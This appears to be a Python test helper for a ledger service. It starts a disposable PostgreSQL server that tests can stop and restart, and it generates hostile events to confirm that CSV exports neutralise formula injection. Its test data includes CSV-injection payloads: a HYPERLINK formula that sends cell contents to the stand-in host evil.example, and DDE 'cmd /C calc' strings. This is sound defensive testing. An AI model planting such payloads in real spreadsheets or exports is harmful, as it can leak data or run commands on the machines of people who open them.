"""A throwaway PostgreSQL for the delivery ledger's tests: the stack's own (``scripts/stack_services.Postgres``),
which a test may also stop and start again on its data (a ledger outage in the middle of a run); and the hostile
events both of the ledger's CSVs (``nexus-cutover report -csv``, the status view's download) must neutralise."""

from __future__ import annotations

import contextlib
import datetime as dt
import pathlib
import tempfile
import uuid
from collections.abc import Iterator

from nexus_cutover import ledger as L
from scripts.demo_airflow import free_port
from scripts.stack_services import Postgres


class LedgerPostgres(Postgres):
    """A throwaway cluster (``initdb`` + ``pg_ctl``, its own port and temp dir) with :meth:`pause` / :meth:`resume`."""

    def __init__(self) -> None:
        self.logs = pathlib.Path(tempfile.mkdtemp(prefix="nexus-ledger-pg-log-"))
        super().__init__(self.logs / "postgres.log", free_port())

    def _opts(self) -> str:
        return (f"-p {self.port} -k {self.dir} -c listen_addresses=127.0.0.1 -c max_connections=100 "
                "-c shared_buffers=32MB -c fsync=off -c synchronous_commit=off -c full_page_writes=off")

    def pause(self) -> None:
        """Stop the server (its data kept): the ledger is down."""
        r = self._run([str(self.bindir / "pg_ctl"), "-D", str(self.data), "-m", "fast", "-w", "-t", "30", "stop"],
                      timeout=60)
        assert r.returncode == 0, r.stderr

    def resume(self) -> None:
        """Start it again on the same data: the ledger is back."""
        r = self._run([str(self.bindir / "pg_ctl"), "-D", str(self.data), "-l", str(self.log), "-o", self._opts(),
                       "-w", "-t", "60", "start"], timeout=90, start_new_session=True)
        assert r.returncode == 0, r.stdout + r.stderr

    def database_url(self) -> str:
        """A fresh, empty database of this server (its URL, password included)."""
        import psycopg2

        name = f"ledger_{uuid.uuid4().hex[:12]}"
        conn = psycopg2.connect(host="127.0.0.1", port=self.port, user="airflow", password=self.password,
                                dbname="postgres")
        conn.autocommit = True
        with conn.cursor() as cur:
            cur.execute(f"CREATE DATABASE {name}")
        conn.close()
        return f"postgresql+psycopg2://airflow:{self.password}@127.0.0.1:{self.port}/{name}"


@contextlib.contextmanager
def ledger_postgres() -> Iterator[LedgerPostgres]:
    server = LedgerPostgres()
    try:
        server.start()
        yield server
    finally:
        server.stop()


#: What a spreadsheet runs as a formula (OWASP, "CSV Injection"): a cell starting with one of these. Spelled here, not
#: imported from the product, so the tests hold the product to the rule rather than to itself.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: A reason a spreadsheet would run as a link once a formula start is put before it (no ``scheme://``: the status
#: view's redaction leaves it as it is).
HYPERLINK = 'HYPERLINK(CONCAT("evil.example/?q=", A1), "open")'


def hostile_events(tenant: str, t0: dt.datetime) -> list[L.LedgerEvent]:
    """One stop per formula start, in that order: its step, actor and reason each start with it; its cutoff is a
    negative number (a value, not a formula)."""
    return [L.LedgerEvent(tenant=tenant, dag_id="connector_projection_cutover", run_id="r-hostile", step=f"{c}step_{i}",
                          kind=L.STOPPED, recorded_at=t0 + dt.timedelta(seconds=i), seq=i,
                          actor=f"{c}cmd|' /C calc'!A0", reason=c + HYPERLINK, cutoff=-(i + 1))
            for i, c in enumerate(FORMULA_STARTS)]


def assert_neutralised(rows: list[dict[str, str]], tenant: str) -> None:
    """The CSV rows of :func:`hostile_events`: each hostile cell with a leading ``'`` and otherwise exactly as
    written; numbers as they are (every plain task's ``map_index`` is -1)."""
    assert len(rows) == len(FORMULA_STARTS), rows
    for i, (c, row) in enumerate(zip(FORMULA_STARTS, rows, strict=True)):
        assert row["step"] == f"'{c}step_{i}", row
        assert row["actor"] == f"'{c}cmd|' /C calc'!A0", row
        assert row["reason"] == "'" + c + HYPERLINK, row
        assert row["map_index"] == "-1" and row["cutoff"] == str(-(i + 1)), row
        assert row["kind"] == L.STOPPED and row["tenant"] == tenant and row["holder"] == "", row
